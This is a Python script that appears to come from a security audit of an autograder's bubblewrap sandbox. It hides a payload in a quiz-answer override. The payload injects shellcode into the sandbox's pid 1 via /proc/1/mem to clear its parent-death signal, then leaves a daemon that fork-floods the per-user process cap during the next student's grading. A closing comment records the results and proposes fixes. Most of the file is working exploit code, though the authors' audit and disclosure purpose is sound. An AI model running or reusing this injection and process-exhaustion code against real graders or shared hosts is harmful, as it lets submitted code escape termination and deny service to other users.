# a05: a sandbox that outlives its grading, as an ordinary user. The grader ends a sandbox by SIGKILLing the outer
# bwrap; everything inside dies only because bwrap's init (pid 1 of the sandbox's PID namespace) has
# PR_SET_PDEATHSIG(SIGKILL) (--die-with-parent) and its death tears the namespace down. But the kernel can write into
# pid 1's memory (/proc/1/mem opens read-write: same user, dumpable, no Yama; a01/a02). It writes, at the PC where pid 1
# sleeps in wait(), code that calls prctl(PR_SET_PDEATHSIG, 0) (allowed by the filter) and then execve()s the sandbox's
# python on /tmp/p1.py (a loop that reaps children), and wakes pid 1 with an orphan that exits. Then it leaves a
# daemon (reparented to pid 1) that, 6 s later, forks up to the per-user process cap and holds it 100 s: while the
# NEXT student (b_honest) is graded, serially, with the per-user process cap shared (the reason for serial grading).
# RESULT: see the end of this file.
from u10 import *
PAYLOAD = r'''
import os, sys, struct, time, ctypes
libc = ctypes.CDLL(None, use_errno=True)
open("/tmp/p1.py", "w").write("""
import os, time
open('/tmp/pid1.txt', 'w').write('pid 1 replaced, pdeathsig ' + open('/proc/self/status').read().split('Name:')[1].split()[0])
while True:
    try:
        os.wait()
    except ChildProcessError:
        time.sleep(0.5)
""")
pc = int(open("/proc/1/syscall").read().split()[-1], 16)
exe = sys.executable.encode() + b"\0"; script = b"/tmp/p1.py\0"
base = pc + 48
path_a = base; script_a = base + len(exe); argv_a = (script_a + len(script) + 7) & ~7
code = (b"\xbf\x01\x00\x00\x00" + b"\x31\xf6" + b"\xb8\x9d\x00\x00\x00" + b"\x0f\x05"          # prctl(PR_SET_PDEATHSIG, 0)
        + b"\x48\xbf" + struct.pack("<Q", path_a) + b"\x48\xbe" + struct.pack("<Q", argv_a) + b"\x31\xd2"
        + b"\xb8\x3b\x00\x00\x00" + b"\x0f\x05" + b"\xeb\xfe").ljust(48, b"\x90")              # execve(python, p1.py)
blob = code + exe + script
blob = blob.ljust(argv_a - pc, b"\0") + struct.pack("<QQQ", path_a, script_a, 0)
fd = os.open("/proc/1/mem", os.O_RDWR)
print("wrote", os.pwrite(fd, blob, pc), "bytes at", hex(pc), "in pid 1")
os.close(fd)
a = os.fork()
if a == 0:
    if os.fork() == 0:
        time.sleep(0.3); os._exit(0)
    os._exit(0)
os.waitpid(a, 0)
time.sleep(2)
print("pid 1 now:", open("/proc/1/cmdline", "rb").read(), open("/tmp/pid1.txt").read() if os.path.exists("/tmp/pid1.txt") else "")
print("pid 1 PDeathSig cleared? see host ps after grading")
a = os.fork()
if a == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(3, 1280)
        libc.prctl(15, b"r10-survivor", 0, 0, 0)
        time.sleep(6)
        kids = []
        while True:
            try:
                k = os.fork()
            except OSError as e:
                break
            if k == 0:
                libc.prctl(15, b"r10-hold", 0, 0, 0)
                time.sleep(100); os._exit(0)
            kids.append(k)
        open("/tmp/flood.txt", "w").write(str(len(kids)))
        time.sleep(100)
        os._exit(0)
    os._exit(0)
os.waitpid(a, 0)
print("daemon left")
'''
nb = notebook(overrides={"quiz_q5": "q5 = \"a\"\n" + PAYLOAD})
if __name__ == "__main__":
    import subprocess, threading
    log = []
    def watch():
        for _ in range(40):
            out = subprocess.run("ps -u 65534 -o pid=,ppid=,comm= | awk '$3 ~ /r10-|python/' | awk '{print $3}' | sort | uniq -c | tr '\\n' ' '",
                                 shell=True, capture_output=True, text=True).stdout
            log.append(time.strftime("%H:%M:%S ") + out)
            time.sleep(5)
    import time
    th = threading.Thread(target=watch, daemon=True); th.start()
    d, p = ugrade("a05", {"a_survivor": nb, "b_honest": u7.honest()})
    outputs(d, "a_survivor")
    print("\n".join(log))
    print(subprocess.run("ps -u 65534 -o pid,ppid,etime,comm,cmd | grep -v work/main | cut -c1-160", shell=True, capture_output=True, text=True).stdout)
# RESULT (16:28-16:31 UTC, a05.out.txt; the first try at 16:27 appended the payload after the release's `raise
# NotImplementedError()` of quiz_q5 and never ran it): BROKEN ("killing its launcher ends the sandbox and everything in
# it"; "as an ordinary user ... submissions are graded one at a time"). In the kernel: "wrote 125 bytes at
# 0x7faab036bbd3 in pid 1", then "pid 1 now: b'<user clone>/.venv/bin/python\x00/tmp/p1.py\x00'". After
# a_survivor's grading ended (status graded, 40.7 s) the whole sandbox lived on: host `ps -u 65534` at 16:30:40, after
# grader.grade had returned (rc 0, 108 s):
#   6233 ppid 1 python /tmp/p1.py (the sandbox's pid 1, reparented to the host's init), 6241 the placeholder,
#   6243 ppid 1 ipykernel (a_survivor's kernel itself), 7151 r10-survivor, and 137 r10-hold processes,
# i.e. the hand-in's processes ran through b_honest's whole grading (16:29:30-16:30:20) and past the end of
# `make grade`, holding 137 of the grader user's processes (the watcher's log at the end of a05.out.txt). b_honest still
# got 24/24 here (its sandbox's processes are counted against its own user namespace's cap first; 32.7 s against
# 7.3 s in a00's quiet run). Nothing outside the sandbox's namespaces was reached; the processes were killed by
# hand (kill -9 6233, the sandbox's pid 1, took the rest down). Cause: bwrap's init is the kernel's own user in the
# kernel's PID namespace and dumpable, so its memory (and thus its PDEATHSIG) is the kernel's to change; the grader
# relies on that one flag to end the sandbox. Fix ideas: end the sandbox by killing its PID namespace from outside
# (kill the init by its host pid, or every process of the sandbox's cgroup/namespace), not only the outer bwrap;
# make pid 1 and the placeholder non-dumpable (prctl(PR_SET_DUMPABLE, 0) in them, or run bwrap's init under another
# uid); refuse open of /proc/<pid>/mem for other processes (Yama ptrace_scope>=1 makes a non-descendant unwritable).
